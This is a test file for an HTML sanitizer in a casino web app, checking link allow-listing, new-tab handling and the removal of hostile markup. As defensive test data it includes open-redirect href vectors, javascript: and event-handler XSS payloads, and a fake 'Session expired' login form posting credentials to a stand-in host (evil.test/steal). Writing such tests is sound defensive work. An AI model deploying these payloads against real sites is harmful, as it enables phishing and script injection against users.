// @vitest-environment jsdom
import { describe, expect, it } from 'vitest';
import { sanitizeServerHtml } from '../../src/ui/sanitizeHtml';
import { hostileParts, jsdomPurify } from './purify';

const { purify, parse } = jsdomPurify();
const LINKS = { siteOrigin: 'https://casino.test', allowedHosts: ['x.test', '*.partner.example'] };
const clean = (html: string) => sanitizeServerHtml(html, LINKS, purify);
const NEW_TAB = 'target="_blank" rel="noopener noreferrer"';

describe('sanitizeServerHtml', () => {
  it('keeps ordinary rich text and links', () => {
    expect(clean('<h2>Rules</h2><p>Play <b>fair</b>, see <a href="https://x.test/t">terms</a>.</p><ul><li>one</li></ul><img src="/a.png" alt="a">')).toBe(
      `<h2>Rules</h2><p>Play <b>fair</b>, see <a href="https://x.test/t" ${NEW_TAB}>terms</a>.</p><ul><li>one</li></ul><img src="/a.png" alt="a">`,
    );
  });

  describe('links go where the buttons and slides may (linkTarget with the brand allow-list)', () => {
    const link = (href: string) => clean(`<a href="${href}">go</a>`);
    it('a site path stays an in-app link, written as its path', () => {
      expect(link('/casino?x=1')).toBe('<a href="/casino?x=1">go</a>');
      expect(link('promotions/2')).toBe('<a href="/promotions/2">go</a>');
      expect(link('https://casino.test/sport')).toBe('<a href="/sport">go</a>');
      expect(link('/.//evil.example/x')).toBe('<a href="/evil.example/x">go</a>');
      expect(link('%2F%2Fevil.example')).toBe('<a href="/%2F%2Fevil.example">go</a>');
    });

    it('an allow-listed host opens in a new tab without a handle on this window', () => {
      expect(link('https://x.test/offer')).toBe(`<a href="https://x.test/offer" ${NEW_TAB}>go</a>`);
      expect(link('HTTPS://WWW.PARTNER.EXAMPLE/a')).toBe(`<a href="https://www.partner.example/a" ${NEW_TAB}>go</a>`);
      expect(clean('<a href="https://x.test/" target="_self" rel="opener">go</a>')).toBe(`<a href="https://x.test/" ${NEW_TAB}>go</a>`);
    });

    it("anything else loses its href and keeps its text (the probe's vectors, case, encodings, whitespace and controls)", () => {
      const vectors = [
        '//evil.example/x',
        'https://evil.example/',
        '/\\evil.example',
        '\\\\evil.example',
        ' //evil.example',
        'javascript:alert(1)',
        'JaVaScRiPt:alert(1)',
        'HTTPS://EVIL.EXAMPLE/',
        '//EVIL.example',
        '&#47;&#47;evil.example',
        '&#x2F;&#x2F;evil.example',
        '/&#92;evil.example',
        'https:evil.example',
        'https:/evil.example',
        'http://evil.example',
        '\t//evil.example',
        '/\t/evil.example',
        '/&#x09;/evil.example',
        '&#x0A;//evil.example',
        '&#x01;//evil.example',
        'https://x.test.evil.example/',
        'https://x.test@evil.example/',
        'https://evil.example#x.test',
        '//x.test/',
        'data:text/html,x',
        'vbscript:x',
        'mailto:a@evil.example',
        'ftp://x.test/',
      ];
      for (const href of vectors) expect(link(href), href).toBe('<a>go</a>');
      // the HTML parser turns a NUL into U+FFFD: what is left is a path on this site
      expect(link('\u0000//evil.example')).toBe('<a href="/%EF%BF%BD//evil.example">go</a>');
      expect(hostileParts(parse(clean(vectors.map((h) => `<a href="${h}">x</a>`).join(''))))).toEqual([]);
    });

    it('an area link follows the same rule', () => {
      expect(clean('<map><area href="//evil.example" alt="a"><area href="/casino" alt="b"></map>')).toBe(
        '<map><area alt="a"><area href="/casino" alt="b"></map>',
      );
    });

    it("the allow-list is the caller's: without it no host is external", () => {
      expect(sanitizeServerHtml('<a href="https://x.test/">go</a>', { siteOrigin: 'https://casino.test', allowedHosts: [] }, purify)).toBe('<a>go</a>');
    });
  });

  it('drops a full-screen fake "session expired" login form posting elsewhere', () => {
    const phish = `<div style="position:fixed;inset:0;z-index:99999;background:#fff">
      <h2>Session expired</h2>
      <form action="https://evil.test/steal" method="post">
        <input name="user"><input type="password" name="pass"><button formaction="https://evil.test/b">Sign in</button>
        <textarea></textarea><select><option>x</option></select>
      </form></div>`;
    const out = clean(phish);
    expect(hostileParts(parse(out))).toEqual([]);
    expect(out).not.toMatch(/position|fixed|evil\.test|password|<form|<input|<button/i);
    expect(out).toContain('Session expired');
  });

  it('drops scripts, handlers and javascript: URLs', () => {
    const out = clean(
      '<img src=x onerror="alert(1)"><a href="javascript:alert(1)">x</a><a href=" jav&#x09;ascript:alert(1)">y</a><script>alert(1)</script><svg><script>alert(1)</script></svg><math><mi xlink:href="javascript:alert(1)">z</mi></math>',
    );
    expect(hostileParts(parse(out))).toEqual([]);
    expect(out).not.toMatch(/alert/);
  });

  it("drops style sheets, classes borrowing the site's overlays, ids and frames", () => {
    const out = clean(
      '<style>body{display:none}</style><link rel="stylesheet" href="https://evil.test/x.css"><div class="chakra-modal__overlay" id="root">a</div><iframe src="https://evil.test"></iframe><base href="https://evil.test/"><meta http-equiv="refresh" content="0;url=https://evil.test">',
    );
    expect(out).toBe('<div>a</div>');
  });

  it('never lets a link hand our window to another page (no target of the server, no opener)', () => {
    expect(clean('<a href="https://x.test" target="_blank">x</a>')).toBe(`<a href="https://x.test/" ${NEW_TAB}>x</a>`);
    expect(clean('<a href="/casino" target="_blank">x</a>')).toBe('<a href="/casino">x</a>');
  });

  it('answers empty for a non-string', () => {
    expect(clean(undefined as unknown as string)).toBe('');
  });
});
